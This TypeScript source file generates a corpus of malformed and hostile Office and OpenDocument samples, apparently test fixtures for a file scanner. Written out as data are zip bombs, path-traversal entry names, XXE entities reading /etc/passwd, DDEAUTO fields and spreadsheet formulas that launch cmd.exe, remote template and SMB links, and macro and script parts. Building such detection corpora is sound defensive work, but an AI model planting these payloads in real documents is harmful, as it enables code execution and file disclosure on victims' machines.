import {
  anOffice,
  entriesOf,
  officeKinds,
  relation,
  xml,
  type OfficeKind,
  type OfficeWish,
} from "./build-office.ts";
import { buildZip, type ZipEntry } from "./build-zip.ts";
import { times, type Sample } from "./sample.ts";

const newOffice = ["docx", "xlsx", "pptx"] as const;
const zeros = Buffer.alloc(30 * 1024 ** 2);
const nine = Buffer.alloc(9_000_000);
const nested = buildZip([{ name: "a", bytes: buildZip([{ name: "b", bytes: zeros }]) }]);
const program = Buffer.from(`4d5a9000${"00".repeat(200)}`, "hex");
const oldObject = Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)]);

export function badOffice(): Sample[] {
  return [
    ...officeKinds.flatMap(archives),
    ...newOffice.flatMap(parts),
    ...fields(),
    ...openParts(),
  ];
}

const sample = (name: string, bytes: Buffer): Sample => ({ group: "bad-office", name, bytes });

/** What is wrong with the archive itself, whatever it holds. */
function archives(kind: OfficeKind): Sample[] {
  const made = (name: string, wish: OfficeWish) => sample(`${name}.${kind}`, anOffice(kind, wish));
  const entry = (name: string, given: Partial<ZipEntry> = {}): ZipEntry => ({
    name,
    bytes: Buffer.from("x"),
    ...given,
  });
  const slips = [
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\windows\\x",
    "a/../../b",
    "..\\..\\x",
    "word/..\\x",
    "a\0b",
    "//host/x",
  ];
  return [
    made("bomb", { more: [entry("media/zero.bmp", { bytes: zeros })] }),
    made("many-bombs", {
      more: times(15, (index) => entry(`media/${index}`, { bytes: nine })),
    }),
    made("nested", { more: [entry("media/inner.zip", { bytes: nested })] }),
    made("crowd", { more: times(1_100, (index) => entry(`a${index}`)) }),
    made("link", { more: [entry("media/link", { mode: 0o120777 })] }),
    made("locked", { more: [entry("media/locked", { flags: 1 })] }),
    made("lies-small", { more: [entry("media/l", { bytes: Buffer.alloc(5000), claims: 10 })] }),
    made("lies-large", {
      more: [entry("media/l", { bytes: Buffer.alloc(50), claims: 4_000_000_000 })],
    }),
    made("twice", { more: [entry("same.xml"), entry("SAME.xml")] }),
    made("overlap", {
      more: [entry("media/a", { bytes: Buffer.alloc(4000, 1) }), entry("media/b", { at: 40 })],
    }),
    made("other-name", { more: [entry("media/a.png", { localName: "media/a.exe" })] }),
    made("before", { shape: { prefix: Buffer.from("<html><script>1</script>") } }),
    made("between", { shape: { between: Buffer.alloc(500, 65) } }),
    made("behind", { shape: { suffix: Buffer.from("<html>") } }),
    made("program", { more: [entry("media/x.png", { bytes: program })] }),
    made("script", { more: [entry("media/x.js")] }),
    made("old-object", { more: [entry("media/x.png", { bytes: oldObject })] }),
    ...slips.map((slip, index) => made(`slip-${index}`, { more: [entry(slip)] })),
    ...entitiesIn(kind),
  ];
}

function entitiesIn(kind: OfficeKind): Sample[] {
  const laugh = `<!DOCTYPE a [<!ENTITY b "${"x".repeat(100)}"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>`;
  const outside = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';
  const wide = Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${outside}`, "utf16le");
  return [
    ["laugh", xml(laugh)],
    ["outside", xml(outside)],
    ["small-letters", xml(outside.replace("DOCTYPE", "doctype"))],
    ["wide", wide],
    ["wide-other-way", Buffer.from(wide).swap16()],
    ["other-letters", Buffer.from('<?xml version="1.0" encoding="UTF-7"?><a>+ADw-!DOCTYPE</a>')],
    ["ebcdic", Buffer.from(`<?xml version="1.0" encoding='cp037'?><a/>`)],
  ].map(([name, bytes]) =>
    sample(
      `entities-${String(name)}.${kind}`,
      anOffice(kind, { more: [{ name: "custom/item1.xml", bytes: bytes as Buffer }] }),
    ),
  );
}

/** What an office program would run or fetch. */
function parts(kind: (typeof newOffice)[number]): Sample[] {
  const made = (name: string, wish: OfficeWish) => sample(`${name}.${kind}`, anOffice(kind, wish));
  const part = (name: string, bytes = Buffer.from("x")) => ({ more: [{ name, bytes }] });
  const override = (type: string) => `<Override PartName="/x" ContentType="${type}"/>`;
  const outside = [
    "attachedTemplate",
    "oleObject",
    "image",
    "frame",
    "subDocument",
    "externalLinkPath",
    "aFChunk",
    "mailMergeSource",
    "package",
    "slideMaster",
  ];
  const targets = [
    "https://x.example/a.dotm",
    "file:///c:/a.dotm",
    "\\\\10.0.0.1\\share\\a.dotm",
    "smb://x/y",
  ];
  const reference = {
    name: "x/_rels/x.xml.rels",
    type: `http://schemas.openxmlformats.org/officeDocument/2006/relationships/image`,
  };
  return [
    made("vba", part("word/vbaProject.bin", oldObject)),
    made("vba-elsewhere", part("x/y/VBAPROJECT.BIN")),
    made("vba-type", { types: override("application/vnd.ms-office.vbaProject") }),
    made("macro-enabled", {
      types: override("application/vnd.ms-word.document.macroEnabled.main+xml"),
    }),
    made("active-x", part("word/activeX/activeX1.xml")),
    made("ole", part("word/embeddings/oleObject1.bin", oldObject)),
    made("ole-hidden", part("word/embeddings/picture.png", oldObject)),
    made("macro-sheet", part("xl/macrosheets/sheet1.xml")),
    made("external-links", part("xl/externalLinks/externalLink1.xml")),
    made("connections", part("xl/connections.xml")),
    made("ribbon", part("customUI/customUI.xml")),
    made("embedded-macros", {
      more: [
        { name: "word/embeddings/a.docx", bytes: anOffice("docx", part("word/vbaProject.bin")) },
      ],
    }),
    made("too-deep", {
      more: [
        {
          name: "word/embeddings/a.xlsx",
          bytes: anOffice("xlsx", {
            more: [{ name: "xl/embeddings/b.docx", bytes: anOffice("docx") }],
          }),
        },
      ],
    }),
    made("spelt-mode", {
      more: [
        {
          name: reference.name,
          bytes: xml(
            `<Relationships><Relationship Type='${reference.type}' Target='https://x.example/' TargetMode='&#69;xternal'/></Relationships>`,
          ),
        },
      ],
    }),
    made("prefixed", {
      more: [
        {
          name: reference.name,
          bytes: xml(
            `<r:Relationships><r:Relationship\n Type = "${reference.type}"\n Target = "file:///x"\n TargetMode = "External" ></r:Relationship></r:Relationships>`,
          ),
        },
      ],
    }),
    made("script-link", { relations: relation("hyperlink", "javascript:alert(1)") }),
    made("share-link", { relations: relation("hyperlink", "file://10.0.0.1/share/x") }),
    ...outside.flatMap((type) =>
      targets.map((target, index) =>
        made(`${type}-${index}`, { relations: relation(type, target) }),
      ),
    ),
  ];
}

/** Fields of a text and cells of a table that start a program. */
function fields(): Sample[] {
  const field = (...texts: string[]) =>
    texts
      .map((text) => `<w:instrText xml:space="preserve">${text}</w:instrText>`)
      .join("</w:r><w:r>");
  const texts = [
    field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    field("DD", "EAUTO", " c:\\\\cmd"),
    field('dde "Excel" "x" "y"'),
    field("&#68;&#68;&#69;AUTO x"),
    field("&#x44;&#x44;&#x45;AUTO x"),
    field("QUOTE 68 68 69 65 85 84 79"),
    field('INCLUDETEXT "\\\\\\\\10.0.0.1\\\\x"'),
    field('LINK Excel.Sheet.12 "x"'),
    '<w:fldSimple w:instr="DDEAUTO cmd /k"/>',
    "<w:fldSimple w:instr=' DDE  cmd x '/>",
    '<w:altChunk r:id="x"/>',
    "<o:OLEObject Type='Link'/>",
  ];
  const cells = [
    "cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\..\\cmd.exe'!''",
    'CALL("k","e","J",1)',
    'WEBSERVICE("http://x")',
    'REGISTER("u","x")',
    'RTD("x",,"y")',
    'EXEC("calc")',
  ];
  return [
    ...texts.map((body, index) => sample(`field-${index}.docx`, anOffice("docx", { body }))),
    ...cells.flatMap((cell, index) => [
      sample(
        `cell-${index}.xlsx`,
        anOffice("xlsx", {
          more: [
            {
              name: "xl/worksheets/sheet1.xml",
              bytes: xml(`<worksheet><c><f>${cell}</f></c></worksheet>`),
            },
          ],
        }),
      ),
      sample(
        `name-${index}.xlsx`,
        anOffice("xlsx", {
          more: [
            {
              name: "xl/worksheets/sheet2.xml",
              bytes: xml(`<x:worksheet><x:f t="shared">${cell}</x:f></x:worksheet>`),
            },
          ],
        }),
      ),
    ]),
    sample("dde-link.xlsx", anOffice("xlsx", { body: "<ddeLink ddeService='cmd'/>" })),
    ...["program", "macro", "ole"].map((verb) =>
      sample(
        `verb-${verb}.pptx`,
        anOffice("pptx", { body: `<a:hlinkClick action="ppaction://${verb}?x"/>` }),
      ),
    ),
    sample(
      "template.docx",
      buildZip(
        entriesOf("docx").map((entry) => ({
          ...entry,
          bytes: Buffer.from(entry.bytes.toString().replace("document.main", "template.main")),
        })),
      ),
    ),
    sample("just-a-zip.docx", buildZip([{ name: "a.txt", bytes: Buffer.from("a") }])),
    sample("just-a-zip.pdf", buildZip([{ name: "a.html", bytes: Buffer.from("<script>") }])),
  ];
}

function openParts(): Sample[] {
  const bodies = [
    '<script:event-listener script:language="ooo:script"/>',
    '<text:a xlink:href="vnd.sun.star.script:x.y?language=Basic"/>',
    '<text:a xlink:href="file:///etc/passwd"/>',
    '<text:a xlink:href="javascript:alert(1)"/>',
    "<table:dde-link/>",
    '<draw:image xlink:href="https://x.example/track.png"/>',
    '<draw:image xlink:href="\\\\10.0.0.1\\x"/>',
    '<draw:object xlink:href="file:///x"/>',
    '<draw:plugin xlink:href="http://x"/>',
    '<text:section-source xlink:href="https://x.example/x.odt"/>',
    '<draw:floating-frame xlink:href="http://x"/>',
    '<table:table-source xlink:href="file:///x.ods"/>',
  ];
  return (["odt", "ods"] as const).flatMap((kind) => [
    ...bodies.map((body, index) => sample(`body-${index}.${kind}`, anOffice(kind, { body }))),
    ...["Basic/Standard/Module1.xml", "Scripts/python/x.py", "Dialogs/x.xml", "x.exe"].map(
      (name, index) =>
        sample(
          `part-${index}.${kind}`,
          anOffice(kind, { more: [{ name, bytes: Buffer.from("x") }] }),
        ),
    ),
    sample(`locked-parts.${kind}`, anOffice(kind, { types: "<manifest:encryption-data/>" })),
  ]);
}
